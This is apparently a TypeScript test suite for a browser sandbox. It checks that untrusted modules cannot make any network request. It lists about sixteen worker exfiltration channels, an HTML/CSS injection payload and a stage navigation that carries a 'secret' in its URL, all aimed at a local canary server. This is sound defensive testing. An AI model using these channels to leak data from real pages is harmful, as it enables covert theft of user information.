/** Invariant 3: no request of any kind leaves any frame or thread. */
import { expect } from 'chai';
import { framePage, framePolicy } from '../../src/barrier/csp.ts';
import { type Canary, openCanary } from '../support/canary.ts';
import { moduleOf, runModule, unmountAll } from '../support/mount.ts';

/** Every way out of a worker that some browser has. */
function waysOut({ httpUrl, wsUrl, tcpUrl }: Canary): string {
  const nested = `fetch('${httpUrl}nested', {mode:'no-cors'}).catch(()=>{}); importScripts('${httpUrl}nested.js');`;
  return `async function render() {
    const ways = [
      () => fetch('${httpUrl}fetch', { mode: 'no-cors' }),
      () => fetch('${tcpUrl}', { mode: 'no-cors' }),
      () => fetch('${httpUrl}keepalive', { mode: 'no-cors', keepalive: true }),
      () => { const x = new XMLHttpRequest(); x.open('GET', '${httpUrl}xhr'); x.send(); },
      () => new WebSocket('${wsUrl}'),
      () => new EventSource('${httpUrl}events'),
      () => new WebTransport('${httpUrl.replace('http:', 'https:')}transport'),
      () => importScripts('${httpUrl}x.js'),
      () => import('${httpUrl}x.js'),
      () => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(nested)}]))),
      () => new Worker('${httpUrl}x.js'),
      () => caches.open('x').then((cache) => cache.add('${httpUrl}cached')),
      () => navigator.sendBeacon('${httpUrl}beacon'),
      () => new FontFace('x', 'url(${httpUrl}font)').load(),
      () => { location.href = '${httpUrl}location'; },
      () => new RTCPeerConnection(),
    ];
    for (const way of ways) { try { const done = way(); if (done && done.catch) done.catch(() => {}); } catch {} }
    console.log('tried', ways.length);
    // A thread that ends takes its requests with it: give them time to leave.
    const end = Date.now() + 300; while (Date.now() < end);
  }`;
}

const LOOSE = { level: 'permissive', limits: { computeMs: 5000 } } as const;

describe('invariant 3: no request leaves', () => {
  let canary: Canary;
  beforeEach(async () => {
    canary = await openCanary('no-request');
  });
  afterEach(async () => {
    unmountAll();
    await canary.close();
  });

  it('by any way a module knows, with only the CSP standing', async () => {
    const { logs } = await runModule(waysOut(canary), { ...LOOSE, walls: { scan: false, harden: false } });
    expect(logs).to.deep.equal([['tried', 16]]);
    expect(await canary.settle()).to.equal(0);
  });

  it('by any way a module knows, with only the hardened realm standing', async () => {
    const { logs } = await runModule(waysOut(canary), { ...LOOSE, walls: { scan: false, csp: false } });
    // import() is syntax: hardening can't take it away, the scan and the CSP do.
    expect(logs).to.deep.equal([['tried', 16]]);
    const { listed } = await canary.count();
    expect(listed.filter((request) => !request.endsWith('/x.js'))).to.deep.equal([]);
  });

  it('control: with scan, hardening and CSP off, requests do leave', async () => {
    await runModule(waysOut(canary), { ...LOOSE, walls: { scan: false, harden: false, csp: false } });
    expect(await canary.waitForHit()).to.equal(true);
  });

  const markup = (
    url: string,
  ) => `<img src="${url}a.gif"><link rel="stylesheet" href="${url}b.css"><link rel="preconnect" href="${url}">
    <iframe src="${url}c.html"></iframe><object data="${url}d.html"></object><video src="${url}e"></video>
    <p style="background:url(${url}f.gif)">x</p><style>@import "${url}g.css"; p { background: url(${url}h.gif) }</style>
    <svg><image href="${url}i.gif"/></svg><meta http-equiv="refresh" content="0;url=${url}j.html"><base href="${url}">`;

  it('by markup, with text drawn as text', async () => {
    const { type } = await runModule(
      moduleOf(`container.innerHTML = datasets.m[0].html; const p = document.createElement('p'); p.textContent = datasets.m[0].html;
        p.style.background = 'url(${canary.httpUrl}style.gif)'; p.setAttribute('style', 'background:url(${canary.httpUrl}attr.gif)');
        container.append(p, datasets.m[0].html);`),
      { walls: { csp: false }, datasets: { m: [{ html: markup(canary.httpUrl) }] } },
    );
    expect(type).to.equal('rendered');
    expect(await canary.settle()).to.equal(0);
  });

  it('by markup that does become elements, with the CSP standing', async () => {
    await runModule(moduleOf('container.append(datasets.m[0].html);'), {
      walls: { text: false },
      datasets: { m: [{ html: markup(canary.httpUrl).replace(/<link rel="preconnect"[^>]*>/, '') }] },
    });
    expect(await canary.settle()).to.equal(0);
  });

  it('control: markup that becomes elements without the CSP does make requests', async () => {
    await runModule(moduleOf('container.append(datasets.m[0].html);'), {
      walls: { text: false, csp: false },
      datasets: { m: [{ html: markup(canary.httpUrl) }] },
    });
    expect(await canary.waitForHit()).to.equal(true);
  });

  /** What a taken-over stage would do to itself: carry data away in an address. */
  const navigateStage = async (barrierPolicy: boolean) => {
    const script = `location.href = '${canary.httpUrl}stage.html?secret'`;
    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(script));
    const hash = `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
    const policy = framePolicy().replace('script-src', `script-src ${hash}`);
    const stage = framePage(script, policy).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    const inner = `<iframe sandbox="allow-scripts" srcdoc="${stage}"></iframe>`;
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.srcdoc = framePage('', barrierPolicy ? policy : undefined).replace('</body>', `${inner}</body>`);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await loaded;
    return frame;
  };

  it('by navigation of the stage, which the barrier’s frame-src closes', async () => {
    const frame = await navigateStage(true);
    await canary.settle(600);
    // Chromium opens a connection ahead of the navigation that it then refuses: nothing is asked on it.
    expect(await canary.count()).to.deep.include({ requests: 0, listed: [] });
    frame.remove();
  });

  it('control: the stage’s own policy alone does not stop it', async () => {
    const frame = await navigateStage(false);
    expect(await canary.waitForHit()).to.equal(true);
    await canary.settle();
    expect((await canary.count()).requests).to.be.greaterThan(0);
    frame.remove();
  });
});
